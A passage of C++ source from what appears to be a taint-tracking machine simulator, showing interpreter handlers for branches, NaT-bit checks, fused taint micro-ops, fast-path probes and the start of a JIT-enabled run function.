        // rejected in the constructor. Fast-stream targets were
        // retargeted at decode time, so maybeFast is an identity
        // there; on the instrumented stream it promotes into the
        // taken target's fast twin. Maybe bits are not architectural
        // NaTs: chk never recovers under the async tier (explicit
        // speculation is outside its envelope, docs/ASYNC-TAINT.md).
        if (!kAsync && gpr_[dp->r2].nat) {
            charge(cycleModel_.branchTaken);
            pc = maybeFast(static_cast<uint64_t>(dp->target));
            SHIFT_JIT_CHECK();
        } else {
            charge(cycleModel_.branch);
            ++pc;
        }
        SHIFT_NEXT_FAST();

    SHIFT_OP(Br)
        charge(cycleModel_.branchTaken);
        pc = maybeFast(static_cast<uint64_t>(dp->target));
        SHIFT_JIT_CHECK();
        SHIFT_NEXT_FAST();

    SHIFT_OP(BrCall)
        if (dp->callee >= 0) {
            enterFunction(dp->callee);
            SHIFT_JIT_CHECK();
        } else {
            int slot = -1 - dp->callee;
            const BuiltinFn *fn = builtinSlotFns_[slot];
            if (!fn) {
                sync();
                setFault(FaultKind::UnknownFunction, FaultContext::None,
                         0,
                         "no function or built-in named '" +
                             decoded_->builtinNames[slot] + "'");
                SHIFT_STOPPED();
            }
            charge(cycleModel_.call);
            sync();
            if constexpr (kAsync) {
                // Built-ins are policy-check points (H1-H5, taint
                // sources, alert syscalls): fence so their TaintMap
                // and argNat reads see the caught-up shadow.
                if (asyncFence())
                    SHIFT_STOPPED();
            }
            // See runBuiltin: advance past the call site only when the
            // built-in neither stopped the machine nor moved control
            // (pc, function and stack depth all unchanged).
            uint64_t pcBefore = pc_;
            int funcBefore = curFunc_;
            size_t depthBefore = callStack_.size();
            [[maybe_unused]] uint64_t bt0 = profT0();
            (*fn)(*this);
            if constexpr (kProf)
                prof_->carveSince(obs::Tier::Builtin, funcBefore,
                                  static_cast<uint32_t>(dp->origIndex),
                                  bt0);
            if (!stopped_ && pc_ == pcBefore && curFunc_ == funcBefore &&
                callStack_.size() == depthBefore)
                ++pc_;
            resync();
        }
        SHIFT_NEXT();

    SHIFT_OP(BrCalli) {
        uint64_t target = br_[dp->br];
        auto callee = funcIndexForDesc(target, program_->functions.size());
        if (!callee) {
            sync();
            setFault(FaultKind::BadIndirect, FaultContext::ControlFlow,
                     target, "indirect call to a non-function address");
            SHIFT_STOPPED();
        }
        enterFunction(*callee);
        SHIFT_JIT_CHECK();
        SHIFT_NEXT();
    }

    SHIFT_OP(BrRet)
        charge(cycleModel_.call);
        if (callStack_.empty()) {
            exited_ = true;
            exitCode_ = static_cast<int64_t>(gpr_[reg::rv].val);
            stopped_ = true;
        } else {
            Frame frame = callStack_.back();
            callStack_.pop_back();
            curFunc_ = frame.function;
            pc = frame.returnPc;
            df = &decoded_->functions[curFunc_];
            inFast = frame.fast;
            code = inFast ? df->fast.data() : df->code.data();
            SHIFT_JIT_CHECK();
        }
        SHIFT_NEXT();

    SHIFT_OP(MovToBr)
        if constexpr (kAsync) {
            // Both real branch-register moves and the annotation
            // pass's compare-alert markers land here: the consumer
            // raises the L3 verdict when the source is tainted. The
            // event carries the register's VALUE (the sync fault
            // reports it as the faulting address). A clean-maybe
            // source can't be consumer-tainted, so the check event is
            // filtered out.
            if (gpr_[dp->r2].nat &&
                pushEv(dift::EvKind::BranchCheck,
                       static_cast<uint8_t>(dp->r2), 0, 0, 0,
                       gpr_[dp->r2].val, 0)) {
                sync();
                asyncStop();
                SHIFT_STOPPED();
            }
        }
        if (!kAsync && gpr_[dp->r2].nat) {
            sync();
            setFault(FaultKind::NatConsumption, FaultContext::ControlFlow,
                     gpr_[dp->r2].val,
                     "NaT (tainted) value moved into a branch register");
            SHIFT_STOPPED();
        }
        br_[dp->br] = gpr_[dp->r2].val;
        charge(cycleModel_.alu);
        ++pc;
        SHIFT_NEXT_FAST();

    SHIFT_OP(MovFromBr)
        if constexpr (kAsync) {
            // Branch registers never hold taint (a tainted move into
            // one is an L3 kill), so the destination comes out clean:
            // a RegWrite sourced from r0, emitted only when there is
            // maybe-taint on the destination to clear.
            if (gpr_[dp->r1].nat)
                pushEv(dift::EvKind::RegWrite,
                       static_cast<uint8_t>(dp->r1), 0, 0, 0, 0, 0);
        }
        setGpr(dp->r1, br_[dp->br], false);
        charge(cycleModel_.alu);
        ++pc;
        SHIFT_NEXT_FAST();

    SHIFT_OP(MovToUnat)
        if (!kAsync && gpr_[dp->r2].nat) {
            sync();
            setFault(FaultKind::NatConsumption, FaultContext::AppRegister,
                     0, "NaT value moved into ar.unat");
            SHIFT_STOPPED();
        }
        unat_ = gpr_[dp->r2].val;
        charge(cycleModel_.alu);
        ++pc;
        SHIFT_NEXT_FAST();

    SHIFT_OP(MovFromUnat)
        if constexpr (kAsync) {
            if (gpr_[dp->r1].nat)
                pushEv(dift::EvKind::RegWrite,
                       static_cast<uint8_t>(dp->r1), 0, 0, 0, 0, 0);
        }
        setGpr(dp->r1, unat_, false);
        charge(cycleModel_.alu);
        ++pc;
        SHIFT_NEXT_FAST();

    SHIFT_OP(Setnat)
        if (!features_.natSetClear) {
            sync();
            setFault(FaultKind::UnknownFunction, FaultContext::None, 0,
                     "setnat requires the natSetClear feature");
            SHIFT_STOPPED();
        }
        gpr_[dp->r1].nat = dp->r1 != reg::zero;
        charge(cycleModel_.alu);
        ++pc;
        SHIFT_NEXT_FAST();

    SHIFT_OP(Clrnat)
        if (!features_.natSetClear) {
            sync();
            setFault(FaultKind::UnknownFunction, FaultContext::None, 0,
                     "clrnat requires the natSetClear feature");
            SHIFT_STOPPED();
        }
        if constexpr (kAsync) {
            // Keep the maybe-bit superset sound: clear the consumer's
            // taint along with the engine's bit (a zero-idiom
            // RegWrite), otherwise later filtered events could assume
            // a clean register the consumer still sees tainted.
            if (gpr_[dp->r1].nat)
                pushEv(dift::EvKind::RegWrite,
                       static_cast<uint8_t>(dp->r1), 0, 0,
                       dift::kEvZeroIdiom, 0, 0);
        }
        gpr_[dp->r1].nat = false;
        charge(cycleModel_.alu);
        ++pc;
        SHIFT_NEXT_FAST();

    SHIFT_OP(Syscall)
        charge(cycleModel_.syscallBase);
        sync();
        if constexpr (kAsync) {
            if (asyncFence())
                SHIFT_STOPPED();
        }
        if (!syscall_) {
            setFault(FaultKind::UnknownFunction, FaultContext::None, 0,
                     "no system-call handler installed");
            SHIFT_STOPPED();
        }
        {
            [[maybe_unused]] uint64_t st0 = profT0();
            syscall_(*this, dp->imm);
            profCarve(obs::Tier::Host, st0);
        }
        if (!stopped_) {
            resync();
            ++pc;
            SHIFT_JIT_CHECK();
        }
        SHIFT_NEXT();

    SHIFT_OP(Halt)
        exited_ = true;
        exitCode_ = static_cast<int64_t>(gpr_[reg::rv].val);
        stopped_ = true;
        SHIFT_STOPPED();

    SHIFT_OP(Label)
        // End-of-function sentinel (see decodeProgram): executing it
        // means control fell or branched past the last instruction.
        sync();
        setFault(FaultKind::IllegalAddress, FaultContext::None,
                 df->origCount,
                 "fell off the end of function '" + df->src->name + "'");
        SHIFT_STOPPED();

    // ----- fused taint micro-ops (see decodeProgram) -------------------
    // Each handler replays its constituents' architectural semantics
    // back to back — the same register writes, cycle and stat charges,
    // load-use stalls, cache accesses and fault points as the unfused
    // stream — while paying the fetch/dispatch front end once, so every
    // simulated number stays bit-identical to the legacy stepper and
    // only host time drops. Constituents are contiguous in the original
    // stream (a fusion precondition), so a fault at constituent k
    // reports origIndex + k through archPcOverride_. The entry stall
    // uses the first constituent's use mask (stamped by the front end);
    // interior stalls are charged where the unfused stream stalls.

    SHIFT_OP(FusedTagAddr) {
        // extr t0=R,61,3; shl t0,t0,rs; extr t1=R,ds,36-ds; or t0,t0,t1
        // Pure ALU: no faults, no interior stalls (no constituent
        // follows a load), one shared (TagAddr, cls) stat index.
        const Gpr a = gpr_[dp->r2];
        uint64_t t1v = (a.val >> dp->pos) & lowMask(dp->len);
        uint64_t t0v = (((a.val >> kRegionShift) & 7)
                        << static_cast<unsigned>(dp->imm)) |
                       t1v;
        setGpr(dp->r3, t1v, a.nat);
        setGpr(dp->r1, t0v, a.nat);
        cycles += 4 * cycleModel_.alu;
        instrs += 4;
        cyFlat[statIdx] += 4 * cycleModel_.alu;
        inFlat[statIdx] += 4;
        ++pc;
        SHIFT_NEXT_FAST();
    }

    SHIFT_OP(FusedChkByte) {
        // ld1 t1,[t0]; add t2=t0,1; ld1 t2,[t2]; shl t2,t2,8;
        // or t1,t1,t2; and t2=R,7; shr t1,t1,t2; and t1,t1,mask;
        // cmp.ne pT,p0 = t1,0
        const unsigned cls = statIdx % kNumOrigClass;
        const unsigned idxMem = statIdx; // entry = first tag load
        const unsigned idxAddr =
            statIndex(Provenance::TagAddr, static_cast<OrigClass>(cls));
        const unsigned idxReg =
            statIndex(Provenance::TagReg, static_cast<OrigClass>(cls));
        const Gpr a = gpr_[dp->br]; // t0: tag byte address
        if (a.nat) {
            archPcOverride_ = dp->origIndex;
            sync();
            setFault(FaultKind::NatConsumption,
                     cls == static_cast<unsigned>(OrigClass::ForStore)
                         ? FaultContext::StoreAddress
                         : FaultContext::LoadAddress,
                     a.val, "load through a NaT (tainted) address");
            SHIFT_STOPPED();
        }
        uint64_t lo = 0;
        MemFault mf = mem_.read(a.val, 1, lo);
        if (mf != MemFault::None) {
            archPcOverride_ = dp->origIndex;
            sync();
            setFault(FaultKind::IllegalAddress, FaultContext::LoadAddress,
                     a.val, "load from illegal address");
            SHIFT_STOPPED();
        }
        setGpr(dp->r1, lo, false);
        ++loadCount_;
        charge(cycleModel_.loadBase);
        uint64_t extra = dcache_.access(a.val) ? cycleModel_.loadHit
                                               : cycleModel_.loadMiss;
        cycles += extra;
        cyFlat[idxMem] += extra;
        // add t2 = t0 + 1
        statIdx = idxAddr;
        uint64_t hiAddr = a.val + 1;
        setGpr(dp->r3, hiAddr, false);
        charge(cycleModel_.alu);
        // ld1 t2, [t2] (address just computed, known clean)
        uint64_t hi = 0;
        mf = mem_.read(hiAddr, 1, hi);
        if (mf != MemFault::None) {
            archPcOverride_ = dp->origIndex + 2;
            sync();
            setFault(FaultKind::IllegalAddress, FaultContext::LoadAddress,
                     hiAddr, "load from illegal address");
            SHIFT_STOPPED();
        }
        setGpr(dp->r3, hi, false);
        ++loadCount_;
        statIdx = idxMem;
        charge(cycleModel_.loadBase);
        extra = dcache_.access(hiAddr) ? cycleModel_.loadHit
                                       : cycleModel_.loadMiss;
        cycles += extra;
        cyFlat[idxMem] += extra;
        // shl t2, t2, 8 — consumes the just-loaded t2: load-use stall
        statIdx = idxAddr;
        cycles += cycleModel_.loadUseStall;
        stallCycles_ += cycleModel_.loadUseStall;
        cyFlat[idxAddr] += cycleModel_.loadUseStall;
        hi <<= 8;
        setGpr(dp->r3, hi, false);
        charge(cycleModel_.alu);
        // or t1, t1, t2
        lo |= hi;
        setGpr(dp->r1, lo, false);
        charge(cycleModel_.alu);
        // and t2 = R, 7 — R's NaT starts propagating here
        const Gpr r = gpr_[dp->r2];
        uint64_t bitIdx = r.val & 7;
        setGpr(dp->r3, bitIdx, r.nat);
        charge(cycleModel_.alu);
        // shr t1, t1, t2 (shift < 8)
        lo >>= bitIdx;
        setGpr(dp->r1, lo, r.nat);
        charge(cycleModel_.alu);
        // and t1, t1, mask
        lo &= static_cast<uint64_t>(dp->imm);
        setGpr(dp->r1, lo, r.nat);
        charge(cycleModel_.alu);
        // cmp.ne pT, p0 = t1, 0 — a NaT operand clears both predicates
        // (p0 writes are hardwired no-ops)
        statIdx = idxReg;
        setPred(dp->p1, r.nat ? false : lo != 0);
        charge(cycleModel_.alu);
        ++pc;
        SHIFT_NEXT_FAST();
    }

    SHIFT_OP(FusedChkWord) {
        // ld1 t1,[t0]; extr t2=R,3,3; shr t1,t1,t2; tbit pT,p0 = t1,0
        const unsigned cls = statIdx % kNumOrigClass;
        const unsigned idxMem = statIdx;
        const unsigned idxAddr =
            statIndex(Provenance::TagAddr, static_cast<OrigClass>(cls));
        const unsigned idxReg =
            statIndex(Provenance::TagReg, static_cast<OrigClass>(cls));
        const Gpr a = gpr_[dp->br]; // t0
        if (a.nat) {
            archPcOverride_ = dp->origIndex;
            sync();
            setFault(FaultKind::NatConsumption,
                     cls == static_cast<unsigned>(OrigClass::ForStore)
                         ? FaultContext::StoreAddress
                         : FaultContext::LoadAddress,
                     a.val, "load through a NaT (tainted) address");
            SHIFT_STOPPED();
        }
        uint64_t lo = 0;
        MemFault mf = mem_.read(a.val, 1, lo);
        if (mf != MemFault::None) {
            archPcOverride_ = dp->origIndex;
            sync();
            setFault(FaultKind::IllegalAddress, FaultContext::LoadAddress,
                     a.val, "load from illegal address");
            SHIFT_STOPPED();
        }
        setGpr(dp->r1, lo, false);
        ++loadCount_;
        charge(cycleModel_.loadBase);
        uint64_t extra = dcache_.access(a.val) ? cycleModel_.loadHit
                                               : cycleModel_.loadMiss;
        cycles += extra;
        cyFlat[idxMem] += extra;
        // extr t2 = R, 3, 3
        statIdx = idxAddr;
        const Gpr r = gpr_[dp->r2];
        uint64_t bitIdx = (r.val >> 3) & 7;
        setGpr(dp->r3, bitIdx, r.nat);
        charge(cycleModel_.alu);
        // shr t1, t1, t2 (shift < 8)
        lo >>= bitIdx;
        setGpr(dp->r1, lo, r.nat);
        charge(cycleModel_.alu);
        // tbit pT, p0 = t1, 0 — NaT clears both predicates
        statIdx = idxReg;
        setPred(dp->p1, r.nat ? false : bit(lo, 0));
        charge(cycleModel_.alu);
        ++pc;
        SHIFT_NEXT_FAST();
    }

    SHIFT_OP(FusedClearNat) {
        // add t3=sp,disp; st8.spill [t3]=r; ld8 r,[t3]
        // One shared (prov, cls) stat index across all three.
        const Gpr bs = gpr_[dp->r2];
        uint64_t addr = bs.val + static_cast<uint64_t>(dp->imm);
        setGpr(dp->r3, addr, bs.nat);
        charge(cycleModel_.alu);
        // st8.spill [t3] = r
        if (bs.nat) {
            archPcOverride_ = dp->origIndex + 1;
            sync();
            setFault(FaultKind::NatConsumption,
                     FaultContext::StoreAddress, addr,
                     "store through a NaT (tainted) address");
            SHIFT_STOPPED();
        }
        const Gpr src = gpr_[dp->r1];
        MemFault mf = mem_.writeSpill(addr, src.val, src.nat);
        if (mf == MemFault::None) {
            unsigned spillBit = static_cast<unsigned>((addr >> 3) & 63);
            unat_ = insertBit(unat_, spillBit, src.nat);
        } else {
            archPcOverride_ = dp->origIndex + 1;
            sync();
            setFault(FaultKind::IllegalAddress,
                     FaultContext::StoreAddress, addr,
                     "store to illegal address");
            SHIFT_STOPPED();
        }
        ++storeCount_;
        charge(cycleModel_.storeBase);
        uint64_t extra = dcache_.access(addr) ? 0 : cycleModel_.storeMiss;
        cycles += extra;
        cyFlat[statIdx] += extra;
        // ld8 r = [t3] — the plain reload leaves the value, drops NaT
        uint64_t v = 0;
        mf = mem_.read(addr, 8, v);
        if (mf != MemFault::None) {
            archPcOverride_ = dp->origIndex + 2;
            sync();
            setFault(FaultKind::IllegalAddress, FaultContext::LoadAddress,
                     addr, "load from illegal address");
            SHIFT_STOPPED();
        }
        setGpr(dp->r1, v, false);
        ++loadCount_;
        charge(cycleModel_.loadBase);
        extra = dcache_.access(addr) ? cycleModel_.loadHit
                                     : cycleModel_.loadMiss;
        cycles += extra;
        cyFlat[statIdx] += extra;
        loadMask = 1ULL << (dp->r1 & 63); // last constituent is a load
        ++pc;
        SHIFT_NEXT_FAST();
    }

    SHIFT_OP(FusedStUpdByte)
    SHIFT_OP(FusedStUpdWord) {
        // and t2=R,7 / extr t2=R,3,3; movi t3,m; shl t3,t3,t2;
        // ld1 t1,[t0]; (pSet) or t1,t1,t3; (pClr) andcm t1,t1,t3;
        // st1 [t0]=t1 — byte granularity repeats the RMW at t0+1 for
        // the straddling high half of the mask.
        const bool byteGran = dp->op == Opcode::FusedStUpdByte;
        const unsigned cls = statIdx % kNumOrigClass;
        const unsigned idxAddr = statIdx; // entry = mask ALU (TagAddr)
        const unsigned idxMem =
            statIndex(Provenance::TagMem, static_cast<OrigClass>(cls));
        const unsigned idxReg =
            statIndex(Provenance::TagReg, static_cast<OrigClass>(cls));
        const Gpr r = gpr_[dp->r2];
        // t2 = bit index within the tag byte (R's NaT propagates)
        uint64_t t2v = byteGran ? (r.val & 7) : ((r.val >> 3) & 7);
        setGpr(dp->br, t2v, r.nat);
        charge(cycleModel_.alu);
        // t3 = mask immediate
        uint64_t t3v = static_cast<uint64_t>(dp->imm);
        setGpr(dp->r3, t3v, false);
        charge(cycleModel_.alu);
        // t3 <<= t2 (shift < 8)
        t3v <<= t2v;
        bool t3n = r.nat;
        setGpr(dp->r3, t3v, t3n);
        charge(cycleModel_.alu);
        // ld1 t1, [t0]
        const Gpr a = gpr_[static_cast<size_t>(dp->target)];
        if (a.nat) {
            archPcOverride_ = dp->origIndex + 3;
            sync();
            setFault(FaultKind::NatConsumption,
                     cls == static_cast<unsigned>(OrigClass::ForStore)
                         ? FaultContext::StoreAddress
                         : FaultContext::LoadAddress,
                     a.val, "load through a NaT (tainted) address");
            SHIFT_STOPPED();
        }
        uint64_t t1v = 0;
        MemFault mf = mem_.read(a.val, 1, t1v);
        if (mf != MemFault::None) {
            archPcOverride_ = dp->origIndex + 3;
            sync();
            setFault(FaultKind::IllegalAddress, FaultContext::LoadAddress,
                     a.val, "load from illegal address");
            SHIFT_STOPPED();
        }
        bool t1n = false;
        setGpr(dp->r1, t1v, t1n);
        ++loadCount_;
        statIdx = idxMem;
        charge(cycleModel_.loadBase);
        uint64_t extra = dcache_.access(a.val) ? cycleModel_.loadHit
                                               : cycleModel_.loadMiss;
        cycles += extra;
        cyFlat[idxMem] += extra;
        // (pSet) or t1,t1,t3 — stalls on the just-loaded t1 when it
        // executes; occupies a nullified slot otherwise (which also
        // clears the stall window for the andcm, as in the unfused
        // stream).
        statIdx = idxReg;
        if (pred_[dp->p1]) {
            cycles += cycleModel_.loadUseStall;
            stallCycles_ += cycleModel_.loadUseStall;
            cyFlat[idxReg] += cycleModel_.loadUseStall;
            t1v |= t3v;
            t1n = t1n || t3n;
            setGpr(dp->r1, t1v, t1n);
            charge(cycleModel_.alu);
        } else {
            charge(cycleModel_.nullified);
        }
        // (pClr) andcm t1,t1,t3
        if (pred_[dp->p2]) {
            t1v &= ~t3v;
            t1n = t1n || t3n;
            setGpr(dp->r1, t1v, t1n);
            charge(cycleModel_.alu);
        } else {
            charge(cycleModel_.nullified);
        }
        // st1 [t0] = t1 (t0 known clean — the ld above would have
        // faulted; a NaT source is the unfused stream's plain-store
        // policy fault)
        if (t1n) {
            archPcOverride_ = dp->origIndex + 6;
            sync();
            setFault(FaultKind::NatConsumption, FaultContext::StoreValue,
                     a.val, "plain store of a NaT source register");
            SHIFT_STOPPED();
        }
        mf = mem_.write(a.val, 1, t1v);
        if (mf != MemFault::None) {
            archPcOverride_ = dp->origIndex + 6;
            sync();
            setFault(FaultKind::IllegalAddress,
                     FaultContext::StoreAddress, a.val,
                     "store to illegal address");
            SHIFT_STOPPED();
        }
        if constexpr (kObs) {
            if (obs_ && t1v != 0) [[unlikely]]
                obs_->emitCold(obs::Ev::TaintStore, 0, curFunc_,
                               dp->origIndex + 6, a.val);
        }
        ++storeCount_;
        statIdx = idxMem;
        charge(cycleModel_.storeBase);
        extra = dcache_.access(a.val) ? 0 : cycleModel_.storeMiss;
        cycles += extra;
        cyFlat[idxMem] += extra;
        if (byteGran) {
            // shr t3, t3, 8
            statIdx = idxAddr;
            t3v >>= 8;
            setGpr(dp->r3, t3v, t3n);
            charge(cycleModel_.alu);
            // add t2 = t0 + 1
            uint64_t hiAddr = a.val + 1;
            setGpr(dp->br, hiAddr, false);
            charge(cycleModel_.alu);
            // ld1 t1, [t2]
            mf = mem_.read(hiAddr, 1, t1v);
            if (mf != MemFault::None) {
                archPcOverride_ = dp->origIndex + 9;
                sync();
                setFault(FaultKind::IllegalAddress,
                         FaultContext::LoadAddress, hiAddr,
                         "load from illegal address");
                SHIFT_STOPPED();
            }
            t1n = false;
            setGpr(dp->r1, t1v, t1n);
            ++loadCount_;
            statIdx = idxMem;
            charge(cycleModel_.loadBase);
            extra = dcache_.access(hiAddr) ? cycleModel_.loadHit
                                           : cycleModel_.loadMiss;
            cycles += extra;
            cyFlat[idxMem] += extra;
            // (pSet) or / (pClr) andcm on the high half
            statIdx = idxReg;
            if (pred_[dp->p1]) {
                cycles += cycleModel_.loadUseStall;
                stallCycles_ += cycleModel_.loadUseStall;
                cyFlat[idxReg] += cycleModel_.loadUseStall;
                t1v |= t3v;
                t1n = t1n || t3n;
                setGpr(dp->r1, t1v, t1n);
                charge(cycleModel_.alu);
            } else {
                charge(cycleModel_.nullified);
            }
            if (pred_[dp->p2]) {
                t1v &= ~t3v;
                t1n = t1n || t3n;
                setGpr(dp->r1, t1v, t1n);
                charge(cycleModel_.alu);
            } else {
                charge(cycleModel_.nullified);
            }
            // st1 [t2] = t1
            if (t1n) {
                archPcOverride_ = dp->origIndex + 12;
                sync();
                setFault(FaultKind::NatConsumption,
                         FaultContext::StoreValue, hiAddr,
                         "plain store of a NaT source register");
                SHIFT_STOPPED();
            }
            mf = mem_.write(hiAddr, 1, t1v);
            if (mf != MemFault::None) {
                archPcOverride_ = dp->origIndex + 12;
                sync();
                setFault(FaultKind::IllegalAddress,
                         FaultContext::StoreAddress, hiAddr,
                         "store to illegal address");
                SHIFT_STOPPED();
            }
            ++storeCount_;
            statIdx = idxMem;
            charge(cycleModel_.storeBase);
            extra = dcache_.access(hiAddr) ? 0 : cycleModel_.storeMiss;
            cycles += extra;
            cyFlat[idxMem] += extra;
        }
        ++pc;
        SHIFT_NEXT_FAST();
    }

    // ----- taint-clean fast-tier micro-ops (see docs/FAST-PATH.md) ----
    // Probes are free in the simulated cost model: they model the
    // paper's speculative hardware, which resolves a clean check off
    // the critical path, so a guarded superblock charges exactly its
    // surviving (non-taint) instructions. All four ops exist only in
    // fast streams and never fault; a failed guard deopts to the
    // instrumented twin, which replays the full architectural
    // semantics from the elided group's own pc.

    SHIFT_OP(FpEnter) {
        uint32_t b = static_cast<uint32_t>(dp->callee);
        if (fpCold_[b]) {
            ++fpColdBails_;
            obsColdBail(static_cast<uint64_t>(dp->target));
            inFast = false;
            pc = static_cast<uint64_t>(dp->target);
            code = df->code.data();
            SHIFT_NEXT_FAST();
        }
        ++fpEnters_[b];
        ++fpEnteredTotal_;
        obsFastEnter();
        ++pc;
        SHIFT_NEXT_FAST();
    }

    SHIFT_OP(FpChkProbe) {
        // Guards an elided bitmap check (FusedChkByte/Word or a
        // narrowed remnant). Clean means the probed summary line(s)
        // are clean and neither the tag address nor the checked
        // register is NaT — then the check's only architectural
        // effect is pT := false. p2 bit 0 marks a fold-elided probe:
        // the FusedTagAddr went with the group, so the figure-4 fold
        // is recomputed host-side from the data address in r2
        // (size 1 = word fold + line, 2 = byte fold + pair,
        // 3 = byte fold + line for narrowed one-byte windows).
        // p2 bit 2: this probe leads its superblock and carries the
        // merged FpEnter — entry counting and the cold-bail check ride
        // here instead of costing a separate dispatch.
        if (dp->p2 & 4) {
            uint32_t b = static_cast<uint32_t>(dp->callee);
            if (fpCold_[b]) {
                ++fpColdBails_;
                obsColdBail(static_cast<uint64_t>(dp->target));
                inFast = false;
                pc = static_cast<uint64_t>(dp->target);
                code = df->code.data();
                SHIFT_NEXT_FAST();
            }
            ++fpEnters_[b];
            ++fpEnteredTotal_;
            obsFastEnter();
        }
        const Gpr &a = gpr_[(dp->p2 & 1) ? dp->r2 : dp->br];
        uint64_t t0v = a.val;
        if (dp->p2 & 1) {
            const unsigned ds = dp->size == 1 ? 6 : 3;
            t0v = (((a.val >> kRegionShift) & 7)
                   << (kImplementedBits - ds)) |
                  ((a.val >> ds) & lowMask(kImplementedBits - ds));
        } else if (gpr_[dp->r2].nat) {
            probeDeopt(obs::DeoptCause::ChkAddrNat);
            SHIFT_NEXT_FAST();
        }
        if (a.nat ||
            (dp->size == 2 ? mem_.taintSummary().pairDirty(t0v)
                           : mem_.taintSummary().lineDirty(t0v))) {
            probeDeopt(a.nat ? obs::DeoptCause::ChkAddrNat
                             : obs::DeoptCause::ChkSummary);
            SHIFT_NEXT_FAST();
        }
        setPred(dp->p1, false);
        ++pc;
        SHIFT_NEXT_FAST();
    }

    SHIFT_OP(FpStProbe) {
        // Guards an elided bitmap RMW update. Elidable only when the
        // store's source is clean (the update would clear
        // already-zero bits) and the window is summary-clean. p2 bit
        // 0 as in FpChkProbe: the tag-address fold rides in the
        // probe. p2 bit 1: the source-NaT test (Tnat) rides in the
        // probe too — it reads the source's NaT from r3 and performs
        // the Tnat's own predicate writes up front, so the deopt
        // target (which sits after the Tnat) replays into correct
        // predicate state.
        bool srcTaint;
        if (dp->p2 & 2) {
            srcTaint = gpr_[dp->r3].nat;
            setPred(dp->p1, srcTaint);
            setPred(dp->pos, !srcTaint);
        } else {
            srcTaint = pred_[dp->p1];
        }
        // Merged block entry (p2 bit 2), after the Tnat's predicate
        // writes: a cold bail lands on the deopt pc, which sits after
        // the elided Tnat, so the predicates must already be correct.
        if (dp->p2 & 4) {
            uint32_t b = static_cast<uint32_t>(dp->callee);
            if (fpCold_[b]) {
                ++fpColdBails_;
                obsColdBail(static_cast<uint64_t>(dp->target));
                inFast = false;
                pc = static_cast<uint64_t>(dp->target);
                code = df->code.data();
                SHIFT_NEXT_FAST();
            }
            ++fpEnters_[b];
            ++fpEnteredTotal_;
            obsFastEnter();
        }
        const Gpr &a = gpr_[(dp->p2 & 1) ? dp->r2 : dp->br];
        uint64_t t0v = a.val;
        if (dp->p2 & 1) {
            const unsigned ds = dp->size == 1 ? 6 : 3;
            t0v = (((a.val >> kRegionShift) & 7)
                   << (kImplementedBits - ds)) |
                  ((a.val >> ds) & lowMask(kImplementedBits - ds));
        } else if (gpr_[dp->r2].nat) {
            probeDeopt(obs::DeoptCause::StAddrNat);
            SHIFT_NEXT_FAST();
        }
        if (a.nat || srcTaint ||
            (dp->size == 2 ? mem_.taintSummary().pairDirty(t0v)
                           : mem_.taintSummary().lineDirty(t0v))) {
            probeDeopt(a.nat ? obs::DeoptCause::StAddrNat
                       : srcTaint ? obs::DeoptCause::StSrcTaint
                                  : obs::DeoptCause::StSummary);
            SHIFT_NEXT_FAST();
        }
        ++pc;
        SHIFT_NEXT_FAST();
    }

    SHIFT_OP(FpClrProbe) {
        // Guards an elided spill/reload NaT purge: a clean register
        // needs no purge (see docs/FAST-PATH.md for the accepted
        // stack-scribble divergence). A NaT spill base faults on the
        // instrumented stream, so it deopts here. p2 bit 2 as in
        // FpChkProbe: the merged block entry rides on the probe.
        if (dp->p2 & 4) {
            uint32_t b = static_cast<uint32_t>(dp->callee);
            if (fpCold_[b]) {
                ++fpColdBails_;
                obsColdBail(static_cast<uint64_t>(dp->target));
                inFast = false;
                pc = static_cast<uint64_t>(dp->target);
                code = df->code.data();
                SHIFT_NEXT_FAST();
            }
            ++fpEnters_[b];
            ++fpEnteredTotal_;
            obsFastEnter();
        }
        if (gpr_[dp->r1].nat || gpr_[dp->r2].nat) {
            probeDeopt(obs::DeoptCause::ClrRegNat);
            SHIFT_NEXT_FAST();
        }
        ++pc;
        SHIFT_NEXT_FAST();
    }

#if SHIFT_THREADED_DISPATCH
stepLimitHit:
    sync();
    dispatches_ += steps;
    setFault(FaultKind::StepLimit, FaultContext::None, 0,
             "step limit exceeded");
    return;

doneRun:
    sync();
    dispatches_ += steps;
#else
        }
    }
    sync();
    dispatches_ += steps;
#endif
#undef SHIFT_JIT_CHECK
#undef SHIFT_OP
#undef SHIFT_NEXT
#undef SHIFT_NEXT_FAST
#undef SHIFT_STOPPED
}

// Production runs the <false, false, false> instantiation: every
// flight-recorder emit site above vanishes under `if constexpr`, so a
// disabled recorder costs one pointer test per run() call
// (perf-smoke-obs enforces this). <true, false, false> adds the
// emit-site branches without per-instruction hot-pc counting;
// <true, true, false> is the full tracing loop used when an observer
// is attached. The kAsync instantiations are the decoupled-taint
// engines (docs/ASYNC-TAINT.md): event emission compiles in, and the
// synchronous loops carry zero async instructions.
template void Machine::runDecoded<false, false, false, false>(uint64_t);
template void Machine::runDecoded<true, false, false, false>(uint64_t);
template void Machine::runDecoded<true, true, false, false>(uint64_t);
template void Machine::runDecoded<false, false, true, false>(uint64_t);
template void Machine::runDecoded<true, false, true, false>(uint64_t);
// kProf variants (tier-attribution profiler, docs/OBSERVABILITY.md).
// No kHotPc+kProf combination: attaching a profiler alongside a full
// observer forfeits the per-PC hot-spot table (run() documents this).
template void Machine::runDecoded<false, false, false, true>(uint64_t);
template void Machine::runDecoded<true, false, false, true>(uint64_t);
template void Machine::runDecoded<false, false, true, true>(uint64_t);
template void Machine::runDecoded<true, false, true, true>(uint64_t);

RunResult
Machine::run(uint64_t maxSteps)
{
    SHIFT_ASSERT(!ran_, "Machine::run() may only be called once");
    ran_ = true;

    // JIT activation. Everything that changes execution semantics is
    // re-validated here: the tier only drives the production
    // interpreter instantiation (no trace hook, no observer — those
    // need per-instruction visibility compiled code doesn't provide),
    // and the cache must have been compiled against this machine's
    // exact program and compile-time environment. A mismatched cache
    // (e.g. the cycle model was tuned after setJitEnabled, or a
    // trace-hook re-decode replaced the program) is replaced rather
    // than trusted.
    jitActive_ = nullptr;
    if (jitEnabled_ && engine_ == ExecEngine::Predecoded && decoded_ &&
        !trace_ && !obs_ && !obsForce_ && jit::available()) {
        jit::CompileEnv env{cycleModel_, features_.natSetClear,
                            features_.natAwareCompare, fastEnabled_,
                            asyncTier_ != nullptr};
        jit::CompileMode mode = jitBackground_
                                    ? jit::CompileMode::Background
                                    : jit::CompileMode::Sync;
        if (!jitCache_ || jitCache_->program() != decoded_.get() ||
            !(jitCache_->env() == env) || jitCache_->mode() != mode ||
            jitCache_->lazyBlocks() != jitLazy_)
            jitCache_ = std::make_shared<jit::CodeCache>(
